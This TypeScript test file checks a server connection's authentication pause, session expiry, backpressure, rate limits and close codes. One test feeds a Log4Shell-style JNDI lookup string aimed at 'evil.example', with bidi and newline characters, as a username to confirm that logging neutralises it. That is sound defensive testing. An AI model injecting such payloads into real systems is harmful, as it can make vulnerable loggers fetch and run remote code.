// A connection over a socket of the test's own, where real time and real buffers would be in the way.

import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { defaultLimits } from './connection-limits.ts'
import { cutOf, goodbyeOf, makeConnection as make } from './test-connection.ts'

beforeEach(() => {
  vi.useFakeTimers()
})
afterEach(() => {
  vi.useRealTimers()
})

const message = '{"type":"subscribe","data":{"channel":"room:a"}}'

describe('a connection', () => {
  it('R0.7 neither handles nor sends anything while it is being checked', () => {
    const { connection, done, handle } = make()
    connection.receiveText(message)
    connection.receiveBinary()
    connection.send('{"type":"event"}')
    expect(done).toEqual(['pause'])
    expect(handle).not.toHaveBeenCalled()
  })

  it('RX.1 neither handles nor sends anything from the moment it ends', () => {
    const { connection, done, handle } = make()
    connection.confirm()
    connection.receiveText(message)
    connection.end('sessionRevoked')
    connection.receiveText(message)
    connection.receiveBinary()
    connection.send('{"type":"event"}')
    vi.advanceTimersByTime(defaultLimits.endGraceMs)
    connection.receiveText(message)
    connection.socketClosed(1006)
    expect(handle).toHaveBeenCalledTimes(1)
    expect(done).toEqual([
      'pause',
      'send welcome',
      'resume',
      ...goodbyeOf(4410),
      'terminate',
      'forgotten 4410',
    ])
    expect(vi.getTimerCount()).toBe(0)
  })

  it('RX.1 counts a deadline that passed although its timer could not fire yet', () => {
    const { connection, done, clock, handle } = make({ ttlMs: 1000 })
    connection.confirm()
    clock.lagMs = 1000
    connection.receiveText(message)
    expect(handle).not.toHaveBeenCalled()
    expect(done.slice(3)).toEqual(goodbyeOf(4401))
  })

  it('RX.1 is never welcomed when its authority ended while it was checked', () => {
    const { connection, done, lines } = make({ ttlMs: 1000 })
    vi.advanceTimersByTime(1000)
    connection.confirm()
    expect(done).not.toContain('send welcome')
    expect(lines).toEqual([])
  })

  it('RX.1 leaves no timer behind when the deadline falls into the confirmation', () => {
    const { connection, done, clock } = make({ ttlMs: 1000 })
    clock.lagMs = 1000
    connection.confirm()
    vi.advanceTimersByTime(defaultLimits.endGraceMs)
    expect(done).not.toContain('send welcome')
    expect(vi.getTimerCount()).toBe(0)
  })

  it('RX.1 says whether it is live without ending, and ends when it is told to look', () => {
    const { connection, done, clock } = make({ ttlMs: 1000 })
    connection.confirm()
    connection.expireIfDue()
    expect(connection.isLive()).toBe(true)
    clock.lagMs = 1000
    expect(connection.isLive()).toBe(false)
    expect(done).toEqual(['pause', 'send welcome', 'resume'])
    connection.expireIfDue()
    expect(done.slice(3)).toEqual(goodbyeOf(4401))
  })

  it('RX.1 counts the time the machine slept, by the wall clock, which the monotonic one does not', () => {
    const { connection, done, clock, handle } = make({ ttlMs: 60_000 })
    connection.confirm()
    clock.wallLeapMs = 60_000 + 5000
    connection.expireIfDue()
    expect(connection.isLive()).toBe(true)
    clock.wallLeapMs += 1
    expect(connection.isLive()).toBe(false)
    connection.receiveText(message)
    expect(handle).not.toHaveBeenCalled()
    expect(done.slice(3)).toEqual(goodbyeOf(4401))
  })

  it('RX.1 does not live longer because the wall clock was set back', () => {
    const { connection, done, clock } = make({ ttlMs: 1000 })
    connection.confirm()
    clock.wallLeapMs = -86_400_000
    vi.advanceTimersByTime(1000)
    expect(done).toContain('close 4401')
  })

  it('FMA-3 handles what came early after the welcome, in order, before it reads on', () => {
    const channel = (name: string) => message.replace('room:a', name)
    const { connection, done, handle } = make({ early: [channel('room:1'), channel('room:2')] })
    handle.mockImplementation((_, { channel: name }) => void done.push(`handle ${name}`))
    expect(done).toEqual(['pause'])
    connection.confirm()
    expect(done.slice(1)).toEqual(['send welcome', 'handle room:1', 'handle room:2', 'resume'])
  })

  it('FMA-3 drops what came early when it ends before its welcome, or while handling it', () => {
    const refused = make({ early: [message, message] })
    refused.connection.end('sessionRevoked')
    refused.connection.confirm()
    expect(refused.handle).not.toHaveBeenCalled()
    const ended = make({ early: [message, message] })
    ended.handle.mockImplementation(() => ended.connection.end('sessionRevoked'))
    ended.connection.confirm()
    expect(ended.handle).toHaveBeenCalledTimes(1)
  })

  it('LOG-3 logs a name that another issuer chose so that no reader of logs obeys it', () => {
    const { connection, lines } = make({ username: '${jndi:ldap://evil.example/a}\u202e\n' })
    connection.confirm()
    expect(lines.map(({ msg }) => msg)).toEqual([
      'user ?{jndi:ldap://evil.example/a}?? authenticated and connected',
    ])
  })

  it('RX.11 tries no goodbye behind a long queue', () => {
    const { connection, done, buffer } = make()
    connection.confirm()
    buffer.bytes = defaultLimits.maxBytesBeforeGoodbye + 1
    connection.end('sessionRevoked')
    expect(done.slice(3)).toEqual(cutOf(4410))
  })

  it('LIM-4 drops events for a reader that is too far behind, answers it, and goes on when it has read', () => {
    const { connection, done, buffer } = make()
    connection.confirm()
    buffer.bytes = defaultLimits.maxBufferedBytes + 1
    connection.sendEvent('{"type":"event"}')
    connection.send('{"type":"ack"}')
    buffer.bytes = 0
    connection.sendEvent('{"type":"event"}')
    expect(done.slice(3)).toEqual(['event dropped', 'send ack', 'send event'])
  })

  it('RX.11 LIM-4 cuts a reader that has read nothing for too long, at whatever is sent next', () => {
    for (const send of ['send', 'sendEvent'] as const) {
      const { connection, done, buffer } = make()
      connection.confirm()
      buffer.bytes = defaultLimits.maxBufferedBytes + 1
      connection.sendEvent('{"type":"event"}')
      vi.advanceTimersByTime(defaultLimits.maxStalledMs)
      connection[send]('{"type":"hb"}')
      expect(done.slice(3)).toEqual(['event dropped', ...cutOf(4508)])
    }
  })

  it('LIM-3 ends with 4429 when it goes on publishing more than it may', () => {
    const { connection, done } = make()
    connection.confirm()
    const { publishBurstBytes, maxRefusals } = defaultLimits
    expect(connection.mayPublish(publishBurstBytes)).toBe(true)
    for (let n = 0; n < maxRefusals; n += 1) {
      expect(connection.isLive()).toBe(true)
      expect(connection.mayPublish(1000)).toBe(false)
    }
    expect(done).toContain('close 4429')
  })

  it('LIM-4 lets one socket publish less at once than a reader may leave unread', () => {
    expect(2 * defaultLimits.publishBurstBytes).toBeLessThan(defaultLimits.maxBufferedBytes)
  })

  it('stays as long as pongs come', () => {
    const { connection, done, pings } = make({ ttlMs: 600_000 })
    connection.confirm()
    for (let n = 0; n < 10; n += 1) {
      vi.advanceTimersByTime(defaultLimits.heartbeatMs)
      connection.receivePong(pings.at(-1) ?? '')
    }
    expect(done.filter((what) => what === 'ping')).toHaveLength(10)
    expect(connection.isLive()).toBe(true)
  })

  it('ends with 4500 when a feature throws', () => {
    const { connection, done, handle } = make()
    handle.mockImplementation(() => {
      throw new Error('a bug')
    })
    connection.confirm()
    connection.receiveText(message)
    expect(done).toContain('close 4500')
  })
})
